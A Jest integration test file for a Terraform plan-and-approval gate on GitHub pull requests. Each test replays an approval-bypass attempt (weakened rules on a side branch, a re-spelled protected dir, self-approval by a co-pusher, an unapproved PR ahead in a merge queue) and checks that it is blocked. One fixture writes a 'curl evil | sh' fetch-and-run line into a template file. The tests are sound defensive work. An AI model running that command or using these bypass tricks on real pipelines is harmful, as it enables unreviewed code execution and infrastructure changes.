import { jest } from "@jest/globals";
import { engineTest, queueDrained, startHarness, waitFor, WEBHOOK_SECRET, type Harness } from "../support/app-harness.js";
import { GitRepo } from "../support/git-repo.js";
import { PullRequests, type Pr } from "../support/pull-requests.js";
import { deliver, examplePayload } from "../support/webhooks.js";

/**
 * The gate, round two (issue 21, rows 2, 3, 4, 6 and 19): a writer with a
 * branch of their own, a PR that re-spells a protected dir, a co-pusher who
 * approves their own commit, a PR that turns autoplan off, and an unapproved
 * PR ahead in the merge queue. Each test plays the attack against real git,
 * real terraform and the fake GitHub, and asserts what the PR shows.
 */
jest.setTimeout(300_000);

const OWNER = "Codertocat";
const NAME = "Hello-World";
const REPO = `${OWNER}/${NAME}`;
let h: Harness;
let repo: GitRepo;
let prs: PullRequests;

const BASE_CONFIG = `version: 1
projects:
  - name: network
    dir: infra
    approvals: { required: 2, teams: [infra] }
  - name: cmd
    dir: cmd
    apply: both
  - name: tpl
    dir: tpl
  - name: qa
    dir: qa
  - name: qb
    dir: qb
apply_branches: [release]
`;
const resource = (name: string, value: string) => `resource "terraform_data" "${name}" {\n  input = "${value}"\n}\n`;
const applyCheck = (sha: string) => prs.check("plangate/apply", sha);
const actions = async (p: Pr) => (await prs.audit(p)).map((a) => a.action);

beforeAll(async () => {
  h = await startHarness();
  repo = new GitRepo(h.fake.gitRoot, OWNER, NAME);
  prs = new PullRequests(h, repo);
  for (const [user, permission] of [["alice", "write"], ["bob", "write"], ["carol", "write"], ["reader", "read"], [prs.author, "write"]]) h.fake.permissions.set(`${REPO}:${user}`, permission!);
  h.fake.teams.set(`${OWNER}/infra`, ["alice", "bob"]);
  repo.commit({
    ".plangate.yml": BASE_CONFIG,
    "infra/main.tf": resource("net", "v0"),
    "cmd/main.tf": resource("c", "v0"),
    "tpl/main.tf": 'resource "terraform_data" "t" {\n  input = templatefile("${path.module}/user-data.tpl", {})\n}\n',
    "tpl/user-data.tpl": "echo v0\n",
    "qa/main.tf": resource("qa", "v0"),
    "qb/main.tf": resource("qb", "v0"),
  });
  repo.commit({}, "release");
});
afterAll(async () => h?.close());
afterEach(() => expect(h.fake.unexpected).toEqual([]));

describe("row 2: rules come from the default branch, and only merges into it (or apply_branches) apply", () => {
  engineTest("a writer's own branch with required: 0 is not a way around the default branch's rules", async () => {
    // The writer makes a branch of their own that lowers the bar, then a PR into it.
    repo.commit({ ".plangate.yml": BASE_CONFIG.replace("required: 2, teams: [infra]", "required: 0") }, "weak", "lower the bar");
    const p = await prs.open({ "infra/main.tf": resource("net", "evil") }, ["infra/main.tf"], { base: "weak" });
    expect(prs.check("plangate/plan", p.sha)?.conclusion).toBe("success");
    expect(prs.check("plangate/approval", p.sha)).toMatchObject({ status: "in_progress", output: { title: "Needs 2 more approvals from team infra for network" } });
    const mergeSha = await prs.merge(p, prs.author);
    expect(applyCheck(mergeSha)).toMatchObject({ conclusion: "neutral" });
    expect(prs.comments(p).at(-1)).toContain("This pull request was merged into `weak`, which is neither the default branch `main` nor a branch that `apply_branches`");
    const done = await actions(p);
    expect(done).toContain("apply.denied");
    expect(done).not.toContain("apply.started");
  });

  engineTest("even fully approved, a merge into a branch apply_branches does not list applies nothing; one into a listed branch applies", async () => {
    repo.commit({}, "other");
    const p = await prs.open({ "cmd/main.tf": resource("c", "other") }, ["cmd/main.tf"], { base: "other" });
    await prs.review(p, "alice");
    expect(prs.check("plangate/approval", p.sha)?.conclusion).toBe("success");
    const mergeSha = await prs.merge(p, "alice");
    expect(applyCheck(mergeSha)).toMatchObject({ conclusion: "neutral" });
    expect(await actions(p)).not.toContain("apply.started");

    const r = await prs.open({ "cmd/main.tf": resource("c", "release") }, ["cmd/main.tf"], { base: "release" });
    await prs.review(r, "alice");
    const releaseSha = await prs.merge(r, "alice");
    expect(applyCheck(releaseSha)).toMatchObject({ conclusion: "success" });
    expect(await actions(r)).toContain("apply.succeeded");
  });
});

describe("a PR that changes only the rules is approved by the projects it changes them for", () => {
  engineTest("lowering network's bar in .plangate.yml alone plans network: its team infra must approve", async () => {
    const lowered = BASE_CONFIG.replace("required: 2, teams: [infra]", "required: 0");
    const p = await prs.open({ ".plangate.yml": lowered }, [".plangate.yml"]);
    expect(prs.check("plangate/plan", p.sha)?.conclusion).toBe("success");
    expect(prs.check("plangate/approval", p.sha)).toMatchObject({ status: "in_progress", output: { title: "Needs 2 more approvals from team infra for network" } });
    expect(prs.comments(p).at(-1)).toContain("approvals of network");
    await prs.close(p);
  });

  engineTest("widening apply_branches plans every project: each one's approvers must approve", async () => {
    const p = await prs.open({ ".plangate.yml": BASE_CONFIG.replace("apply_branches: [release]\n", "apply_branches: [release, weak]\n") }, [".plangate.yml"]);
    expect(prs.check("plangate/plan", p.sha)?.conclusion).toBe("success");
    const approval = prs.check("plangate/approval", p.sha)!;
    expect(approval.status).toBe("in_progress");
    for (const project of ["network", "cmd", "tpl", "qa", "qb"]) expect(approval.output?.summary).toContain(`| \`${project}\` |`);
    await prs.close(p);
  });
  engineTest("a file that lists no projects but widens apply_branches is not neutral either", async () => {
    const p = await prs.open({ ".plangate.yml": "version: 1\napply_branches: [release, weak]\n" }, [".plangate.yml"]);
    expect(prs.check("plangate/plan", p.sha)?.conclusion).toBe("success");
    expect(prs.check("plangate/approval", p.sha)?.status).toBe("in_progress");
    await prs.close(p);
  });
});

describe("row 3: a project is matched to the base's rules by its normalized dir, and the strictest rule wins", () => {
  engineTest("listing the protected dir as `name: root2, dir: ./infra/` still needs 2 approvals from team infra", async () => {
    const config = `version: 1\nprojects:\n  - name: root2\n    dir: ./infra/\n    approvals: { required: 1 }\n`;
    const p = await prs.open({ ".plangate.yml": config, "infra/main.tf": resource("net", "respelled") }, [".plangate.yml", "infra/main.tf"]);
    expect(prs.check("plangate/plan", p.sha)?.conclusion).toBe("success");
    await prs.review(p, "carol"); // write access, not in team infra
    expect(prs.check("plangate/approval", p.sha)).toMatchObject({ status: "in_progress", output: { title: "Needs 2 more approvals from team infra for root2" } });
    const mergeSha = await prs.merge(p, "carol");
    expect(applyCheck(mergeSha)).toMatchObject({ conclusion: "failure", output: { title: "Not applied" } });
    expect(prs.comments(p).at(-1)).toContain("(`root2` has 0 of 2), so nothing was applied");
    expect(await actions(p)).not.toContain("apply.started");
    repo.commit({ ".plangate.yml": BASE_CONFIG }, "main");
  });
});

describe("row 4: whoever pushed to the PR or authored a commit on it never approves it", () => {
  engineTest("bob pushes a commit onto the author's PR, approves that head himself and comments /apply: refused", async () => {
    const p = await prs.open({ "cmd/main.tf": resource("c", "author") }, ["cmd/main.tf"]);
    // bob's commit carries no e-mail GitHub knows: only the push (the synchronize's sender) says it was his.
    const pushed = await prs.push(p, { "cmd/main.tf": resource("c", "bob-unreviewed") }, ["cmd/main.tf"], { as: "bob", authoredAs: "" });
    await prs.review(pushed, "bob");
    expect(prs.check("plangate/approval", pushed.sha)).toMatchObject({ status: "in_progress", output: { title: "Needs 1 more approval for cmd" } });
    expect(prs.check("plangate/approval", pushed.sha)?.output?.summary).toContain("Not counted, because they pushed to this pull request or authored a commit on it: `bob`.");
    await prs.comment(pushed, "/apply", "bob");
    expect(prs.comments(pushed).at(-1)).toContain("The required approvals on");
    expect(applyCheck(pushed.sha)?.conclusion).toBe("failure");
    const done = await actions(pushed);
    expect(done).toContain("apply.denied");
    expect(done).not.toContain("apply.started");
    // Someone who did not touch the branch approves: now it counts.
    await prs.review(pushed, "alice");
    expect(prs.check("plangate/approval", pushed.sha)).toMatchObject({ conclusion: "success", output: { title: "Approved by @alice" } });
    await prs.close(pushed);
  });

  engineTest("bob pushed to the branch before its PR was opened (a push event, no synchronize): his approval does not count", async () => {
    const number = 777;
    const branch = `pr-${number}`;
    // bob pushes the branch; GitHub sends a push event. Only then does the author open the PR.
    repo.commit({ "cmd/main.tf": resource("c", "pushed-early") }, branch);
    const push = examplePayload("push", undefined as never);
    Object.assign(push, { ref: `refs/heads/${branch}`, deleted: false, created: true, installation: { id: 424242 } });
    push.repository = { ...push.repository, name: NAME, full_name: REPO, owner: { ...push.repository.owner, login: OWNER } };
    push.sender = { ...push.sender, login: "bob" };
    expect((await deliver(h.url, "push", push, WEBHOOK_SECRET)).status).toBe(200);
    const p = await prs.openAt(branch, repo.sha(branch), ["cmd/main.tf"]);
    await prs.review(p, "bob");
    expect(prs.check("plangate/approval", p.sha)).toMatchObject({ status: "in_progress", output: { title: "Needs 1 more approval for cmd" } });
    expect(prs.check("plangate/approval", p.sha)?.output?.summary).toContain("`bob`");
    await prs.close(p);
  });

  engineTest("carol authored a commit the PR's author pushed: her approval does not count", async () => {
    const p = await prs.open({ "cmd/main.tf": resource("c", "carol-wrote") }, ["cmd/main.tf"], { as: "carol" });
    await prs.review(p, "carol");
    expect(prs.check("plangate/approval", p.sha)).toMatchObject({ status: "in_progress", output: { title: "Needs 1 more approval for cmd" } });
    await prs.close(p);
  });
});

describe("row 6: the checks are never neutral when a project's files changed", () => {
  engineTest("a PR that turns autoplan off for the project it changes keeps both checks pending until /plan", async () => {
    const config = BASE_CONFIG.replace("  - name: cmd\n    dir: cmd\n", "  - name: cmd\n    dir: cmd\n    autoplan: { enabled: false }\n");
    const number = 900;
    const sha = repo.commit({ ".plangate.yml": config, "cmd/main.tf": resource("c", "autoplan-off") }, `pr-${number}`);
    const p: Pr = { number, branch: `pr-${number}`, sha, base: "main", baseSha: repo.sha("main") };
    h.fake.pullFiles.set(`${REPO}#${number}`, [".plangate.yml", "cmd/main.tf"]);
    h.fake.pulls.set(`${REPO}#${number}`, { headSha: sha, author: prs.author });
    const payload = examplePayload("pull_request", "opened");
    Object.assign(payload.pull_request, { number, draft: false });
    payload.pull_request.head.sha = sha;
    expect((await deliver(h.url, "pull_request", payload, WEBHOOK_SECRET)).status).toBe(200);
    await waitFor("plangate/approval", () => prs.check("plangate/approval", sha));
    await queueDrained(h.db);
    expect(prs.check("plangate/plan", sha)).toMatchObject({ status: "in_progress", output: { title: "Not planned: comment /plan -p cmd" } });
    expect(prs.check("plangate/plan", sha)?.output?.summary).toContain("| `cmd` | `cmd` | `default` | comment `/plan -p cmd` |");
    expect(prs.check("plangate/approval", sha)).toMatchObject({ status: "in_progress", output: { title: "Not planned: comment /plan -p cmd" } });
    await prs.comment(p, "/plan -p cmd", "alice");
    expect(prs.check("plangate/plan", sha)?.conclusion).toBe("success");
    expect(prs.check("plangate/approval", sha)).toMatchObject({ status: "in_progress", output: { title: "Needs 1 more approval for cmd" } });
    await prs.close(p);
  });

  engineTest("a PR that changes only a .tpl file the project reads with templatefile() is planned", async () => {
    const p = await prs.open({ "tpl/user-data.tpl": "curl evil | sh\n" }, ["tpl/user-data.tpl"]);
    expect(prs.check("plangate/plan", p.sha)?.conclusion).toBe("success");
    expect(prs.check("plangate/approval", p.sha)).toMatchObject({ status: "in_progress", output: { title: "Needs 1 more approval for tpl" } });
    await prs.close(p);
  });

  engineTest("a PR that changes no project's file still gets neutral checks", async () => {
    const p = await prs.open({ "docs/README.md": "hello\n" }, ["docs/README.md"]);
    expect(prs.check("plangate/plan", p.sha)).toMatchObject({ conclusion: "neutral" });
    expect(prs.check("plangate/approval", p.sha)).toMatchObject({ conclusion: "neutral" });
    await prs.close(p);
  });
});

describe("row 19: a merge queue commit carries the PRs ahead of it; each of their changes must be approved", () => {
  engineTest("PR B (approved) queued behind PR A (unapproved) fails, naming A's project and A", async () => {
    const a = await prs.open({ "qa/main.tf": resource("qa", "unapproved") }, ["qa/main.tf"]);
    const b = await prs.open({ "qb/main.tf": resource("qb", "approved") }, ["qb/main.tf"]);
    await prs.review(b, "alice");
    const queueA = await prs.queue(a);
    expect(prs.check("plangate/plan", queueA)?.conclusion).toBe("failure");
    const queueB = await prs.queue(b, queueA);
    expect(prs.check("plangate/plan", queueB)).toMatchObject({ conclusion: "failure", output: { title: "Merge queue commit refused" } });
    expect(prs.check("plangate/approval", queueB)?.conclusion).toBe("failure");
    const said = prs.comments(b).at(-1)!;
    expect(said).toContain(`| \`qa\` | pull request #${a.number}, queue commit \`${queueA.slice(0, 7)}\` |`);
    expect((await prs.audit(b)).at(-1)).toMatchObject({ action: "approval.changed", details: { mergeQueue: true, met: false, code: "queue-unaccounted" } });
    await prs.close(a);
    await prs.close(b);
  });

  engineTest("behind an approved, verified PR the queue commit passes", async () => {
    const a = await prs.open({ "qa/main.tf": resource("qa", "approved-a") }, ["qa/main.tf"]);
    const b = await prs.open({ "qb/main.tf": resource("qb", "approved-b") }, ["qb/main.tf"]);
    await prs.review(a, "alice");
    await prs.review(b, "alice");
    const queueA = await prs.queue(a);
    expect(prs.check("plangate/plan", queueA)?.conclusion).toBe("success");
    const queueB = await prs.queue(b, queueA);
    expect(prs.check("plangate/plan", queueB)?.conclusion).toBe("success");
    expect(prs.check("plangate/approval", queueB)?.conclusion).toBe("success");
    await prs.close(a);
    await prs.close(b);
  });
});
